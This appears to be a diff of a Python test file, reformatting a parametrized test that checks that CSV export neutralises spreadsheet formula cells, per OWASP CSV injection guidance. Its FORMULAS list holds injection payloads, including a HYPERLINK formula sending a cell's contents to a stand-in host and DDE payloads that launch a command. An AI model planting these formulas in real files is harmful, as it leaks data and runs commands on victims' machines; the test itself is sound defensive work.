@@ -222,7 +222,7 @@ def test_the_csv_is_headed_in_the_operators_language_and_its_values_stay(client,
 
 
 FORMULAS = [
-    "=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
+    '=HYPERLINK("http://x.example/"&A1,"open")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3",
@@ -233,9 +233,7 @@ FORMULAS = [
 
 
 @pytest.mark.parametrize("code", FORMULAS)
-def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
-    client, code: str
-) -> None:
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, code: str) -> None:
     """Uzum codes take any printable text. A spreadsheet reads a cell starting with = + - @
     (or a tab or carriage return before one) as a formula; with an apostrophe before it, it
     shows the text as it was stored (OWASP's CSV injection guidance)."""
